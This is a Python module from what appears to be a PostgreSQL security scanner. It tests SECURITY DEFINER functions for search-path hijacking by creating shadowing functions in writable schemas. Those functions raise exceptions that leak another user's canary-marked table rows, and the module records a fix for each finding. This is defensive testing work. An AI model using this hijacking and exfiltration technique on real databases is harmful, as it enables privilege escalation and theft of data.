"""Makes functions that fit better what functions with their owner's rights call, where bob may make any."""

from __future__ import annotations

import itertools
import json
from collections import Counter
from functools import cached_property
from typing import TYPE_CHECKING

from pytest_readiness.evidence.attacks import Harm
from pytest_readiness.evidence.people import ALICE, BOB
from pytest_readiness.gather.attacks.attempts import QUERY, UNCOUNTED, Attempt
from pytest_readiness.gather.attacks.call_texts import call_sql
from pytest_readiness.judges.sql.bare_calls import bare_calls
from pytest_readiness.judges.sql.paths import searched_by
from pytest_readiness.target.identities import SUPERUSER
from pytest_readiness.target.quoting import identifier, literal

if TYPE_CHECKING:
    from collections.abc import Iterator

    from pytest_readiness.evidence.catalog import Function
    from pytest_readiness.gather.attacks.field import Field

_CALLS, _STOLEN, _NAMES = 2, 3, 12
_FUNCTIONS = 24
"""Functions that are tried by way of one schema: whoever makes one thing there makes another."""

_TYPES = {1: 16, 2: 8}
"""How many types are tried of each argument, by how many there are."""

_USUAL = ("character varying", "integer", "text", "numeric", "bigint", "uuid", "jsonb", "boolean")
_PROBE = "readiness_probe"
_TAKEN = "RDNCP"
_ANEW = f"{UNCOUNTED}discard plans"
"""A plan that is kept for the connection knows nothing of a function that is nearer by now."""

_KNOWN = (
    "{query}select json_build_array(proname, pronargs, format_type(prorettype, null))::text "
    "from pg_catalog.pg_proc where not proretset and prokind = 'f' and proname in ({names}) "
    "and prorettype not in (select oid from pg_catalog.pg_type where typtype = 'p')"
)
_EACH = """do $readiness$ declare said text; begin
foreach said in array array[{statements}]::text[] loop
begin execute said; exception when duplicate_function then null; end;
end loop; end $readiness$"""


class Captured:
    """Tries functions of bob's own that the server takes in place of others: they run as who calls them."""

    def __init__(self, field: Field) -> None:
        self.field = field
        self.bob = field.cast.user(BOB)
        self._open: dict[str, bool] = {}
        self._tried: Counter[str] = Counter()

    def harms(self, function: Function) -> Iterator[Harm]:
        """Yield what comes out of a call once something of bob's is called by it."""
        for schema in searched_by(function) if function.definer else ():
            if self._tried[schema] < _FUNCTIONS and self._is_open(schema):
                self._tried[schema] += 1
                if harm := next(self._in(function, schema), None):
                    self._tried[schema] = _FUNCTIONS
                    yield harm
                    return

    def _is_open(self, schema: str) -> bool:
        """Whether somebody let bob make functions in a schema, and not the server all by itself."""
        if schema not in self._open:
            step = f"create function {identifier(schema)}.{_PROBE}() returns int language sql as 'select 1'"
            made = not self.field.runner.one(Attempt(self.bob, (step,))).state
            self._open[schema] = made and not (schema == "public" and self._is_public_for_all)
        return self._open[schema]

    @cached_property
    def _is_public_for_all(self) -> bool:
        """Whether public is left to all, as old servers and dumps of them do, and users run no SQL."""
        look = f"{QUERY}select has_schema_privilege('public', 'public', 'create')::text"
        given = self.field.runner.one(Attempt(SUPERUSER, (look,))).rows == ("true",)
        return given and not self.field.target.logins

    def _in(self, function: Function, schema: str) -> Iterator[Harm]:
        for statement, call in self._taken(function, schema):
            for relation in self._secret(function):
                stolen = f"raise exception '%', (select string_agg(t::text, ', ') from {relation} t)"
                attempt = Attempt(self.bob, (_ANEW, _making(statement, stolen), call))
                outcome = self.field.runner.one(attempt)
                if told := self.field.told(attempt, outcome, BOB, self.field.shown_texts):
                    script = self.field.script(relation, self.bob, attempt.steps, "select 1")
                    by, mend = self._by(function, schema, statement)
                    yield Harm(BOB.name, "read", relation, ALICE.name, told, script, by, mend)

    def _taken(self, function: Function, schema: str) -> Iterator[tuple[str, str]]:
        """Yield what bob may declare so that a call of this function calls it, and the call."""
        arguments, raised = self.field.arguments, f"raise exception using errcode = '{_TAKEN}'"
        given = dict.fromkeys((*arguments.own(function), *arguments.calls(function, _CALLS)))
        calls = [call_sql(function, one) for one in given]
        for name, count, returns in self._called(function):
            types = itertools.product(self._types(function, count), repeat=count)
            place = f"{identifier(schema)}.{identifier(name)}"
            made = [f"{place}({', '.join(some)}) returns {returns}" for some in types]
            every = ", ".join(literal(_making(one, raised)) for one in made)
            step = f"{UNCOUNTED}{_EACH.format(statements=every)}"
            together = [Attempt(self.bob, (_ANEW, step, call), about=call) for call in calls]
            ran = self.field.runner.run(together)
            came = (tried.about for tried, outcome in ran if outcome.state == _TAKEN)
            if call := next(came, ""):
                alone = [Attempt(self.bob, (_ANEW, _making(one, raised), call), about=one) for one in made]
                for tried, outcome in self.field.runner.run(alone):
                    if outcome.state == _TAKEN:
                        yield tried.about, call

    def _secret(self, function: Function) -> list[str]:
        """Return relations with texts of hers, those first that the function looks at."""
        reach = self.field.texts.function_reach(function)
        names = sorted(self.field.owners.owned, key=lambda name: (name not in reach, name))
        held = ((name, self.field.population.row(name, ALICE.name)) for name in names)
        marked = (name for name, row in held if row and "canary-" in "".join(map(str, row.texts.values())))
        return list(itertools.islice(marked, _STOLEN))

    def _called(self, function: Function) -> list[tuple[str, int, str]]:
        """Return what a body calls that is a function: its name, how much it is given, what it returns."""
        said = [call for call in bare_calls(function.body) if call[1] in _TYPES]
        if not said:
            return []
        names = ", ".join(literal(name) for name, _ in said)
        look = _KNOWN.format(query=QUERY, names=names)
        known = [json.loads(row) for row in self.field.runner.one(Attempt(SUPERUSER, (look,))).rows]
        returned = [(name, takes, returns) for name, takes, returns in known if (name, takes) in said]
        return list(dict.fromkeys(returned))[:_NAMES]

    def _types(self, function: Function, count: int) -> list[str]:
        """Return types of what a body may give: usual ones, and those of the columns that it looks at."""
        reach = self.field.texts.function_reach(function)
        relations = (r for r in self.field.catalog.relations if r.name in reach)
        columns = (column.type.split("(")[0] for one in relations for column in one.columns)
        return list(itertools.islice(dict.fromkeys((*_USUAL, *columns)), _TYPES[count]))

    def _by(self, function: Function, schema: str, statement: str) -> tuple[str, str]:
        """Return what let it through, and what mends it."""
        made = statement.partition(" returns ")[0].replace('"', "")
        by = f"{function.name} calls {made}, which he made, with the rights of {function.owner}"
        mend = (
            f"revoke create on schema {identifier(schema)} from {identifier(self.bob.role)}, public; "
            f"-- and say in {function.name} in which schema is what it calls"
        )
        return by, mend


def _making(declared: str, body: str) -> str:
    return f"create function {declared} language plpgsql as {literal(f'begin {body}; end')}"
